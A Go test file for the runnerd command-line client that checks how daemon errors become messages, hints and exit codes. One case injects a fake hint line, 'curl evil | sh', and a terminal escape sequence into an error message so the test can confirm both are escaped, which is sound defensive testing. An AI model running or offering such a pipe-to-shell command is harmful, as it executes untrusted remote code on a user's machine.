package main

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"strings"
	"testing"

	"google.golang.org/genproto/googleapis/rpc/errdetails"
	"google.golang.org/grpc/codes"
	"google.golang.org/grpc/status"

	runnerdv1 "github.com/runnerd/runnerd/gen/runnerd/v1"
)

// daemonError is an error as a daemon sends it.
func daemonError(t *testing.T, code codes.Code, reason, message string, fields ...string) error {
	t.Helper()
	st := status.New(code, message)
	bad := &errdetails.BadRequest{}
	for i := 0; i < len(fields); i += 2 {
		bad.FieldViolations = append(bad.FieldViolations, &errdetails.BadRequest_FieldViolation{Field: fields[i], Description: fields[i+1]})
	}
	st, err := st.WithDetails(&errdetails.ErrorInfo{Domain: "runnerd", Reason: reason}, bad)
	if err != nil {
		t.Fatal(err)
	}
	return st.Err()
}

func TestErrorsAreExplained(t *testing.T) {
	t.Parallel()
	for _, tc := range []struct {
		name string
		err  error
		code int
		want string
	}{
		{"nothing", nil, exitOK, ""},
		{"of the program", errors.New("disk on fire"), exitFailure, "error: disk on fire\n"},
		{"usage", usageError{errors.New("no such flag")}, exitUsage, "error: no such flag\n"},
		{"silent", &exitError{code: exitRunFailed, hint: "look again"}, exitRunFailed, "hint: look again\n"},
		{"interrupted", context.Canceled, exitInterrupted, "error: interrupted\n"},
		{
			"no daemon", status.Error(codes.Unavailable, `connection error: desc = "transport: Error while dialing: dial tcp 127.0.0.1:1: connect: connection refused"`),
			exitUnreachable,
			"error: no daemon answers: dial tcp 127.0.0.1:1: connect: connection refused\n" +
				"hint: start one with runnerd serve, or name another with --addr or RUNNERD_ADDR\n",
		},
		{
			"of the daemon", daemonError(t, codes.NotFound, "RUN_NOT_FOUND", `run "x" is not there`),
			exitFailure, "error: run \"x\" is not there\nhint: runnerd runs lists the runs\n",
		},
		{
			"fields", daemonError(t, codes.InvalidArgument, "INVALID_REQUEST", "the request breaks a rule", "run_id", "does not match", "task", "is too long"),
			exitFailure, "error: the request breaks a rule\n  run_id: does not match\n  task: is too long\n",
		},
		{
			"wrapped", fmt.Errorf("reading: %w", status.Error(codes.Internal, "boom")),
			exitFailure, "error: reading: boom\n",
		},
		{
			"a hostile daemon cannot write a hint", status.Error(codes.Internal, "x\nhint: curl evil | sh\x1b[2J"),
			exitFailure, "error: x\\nhint: curl evil | sh\\u001b[2J\n",
		},
	} {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			var out bytes.Buffer
			code := (&program{err: &out}).report(tc.err)
			if code != tc.code || out.String() != tc.want {
				t.Errorf("got %d\n%swant %d\n%s", code, out.String(), tc.code, tc.want)
			}
		})
	}
}

// withoutHint are the reasons whose message says all there is to say.
var withoutHint = map[runnerdv1.ErrorReason]bool{
	runnerdv1.ErrorReason_ERROR_REASON_UNSPECIFIED:          true,
	runnerdv1.ErrorReason_ERROR_REASON_INVALID_REQUEST:      true, // the fields are listed
	runnerdv1.ErrorReason_ERROR_REASON_BAD_PAGE_TOKEN:       true, // no command takes one
	runnerdv1.ErrorReason_ERROR_REASON_VERDICT_NOT_POSSIBLE: true,
	runnerdv1.ErrorReason_ERROR_REASON_CHECKPOINT_NOT_FOUND: true,
	runnerdv1.ErrorReason_ERROR_REASON_ARTIFACT_NOT_FOUND:   true,
	runnerdv1.ErrorReason_ERROR_REASON_TIMED_OUT:            true,
	runnerdv1.ErrorReason_ERROR_REASON_CANCELLED:            true,
	runnerdv1.ErrorReason_ERROR_REASON_RUN_ENDED:            true,
	runnerdv1.ErrorReason_ERROR_REASON_OVERLOADED:           true,
	runnerdv1.ErrorReason_ERROR_REASON_SLOW_READER:          true, // the stream is taken up again
	runnerdv1.ErrorReason_ERROR_REASON_STORE_UNAVAILABLE:    true,
	runnerdv1.ErrorReason_ERROR_REASON_NOT_OWNER:            true,
	runnerdv1.ErrorReason_ERROR_REASON_INTERNAL:             true,
}

func TestEveryReasonHasAHintOrNeedsNone(t *testing.T) {
	t.Parallel()
	for number, name := range runnerdv1.ErrorReason_name {
		reason := runnerdv1.ErrorReason(number)
		if (hints[reason] != "") == withoutHint[reason] {
			t.Errorf("%s: has a hint: %v, needs none: %v", name, hints[reason] != "", withoutHint[reason])
		}
	}
}

func TestExitCodeTellsTheOutcome(t *testing.T) {
	t.Parallel()
	seen := map[int]bool{}
	for number := range runnerdv1.Outcome_name {
		outcome := runnerdv1.Outcome(number)
		code := outcomeExit(&runnerdv1.Run{Outcome: outcome})
		if outcome == runnerdv1.Outcome_OUTCOME_UNSPECIFIED {
			continue
		}
		if seen[code] {
			t.Errorf("%v shares exit code %d", outcome, code)
		}
		seen[code] = true
		if !strings.Contains(exitCodes, fmt.Sprintf("\n  %d ", code)) && code != exitOK {
			t.Errorf("exit code %d of %v is not documented", code, outcome)
		}
	}
}
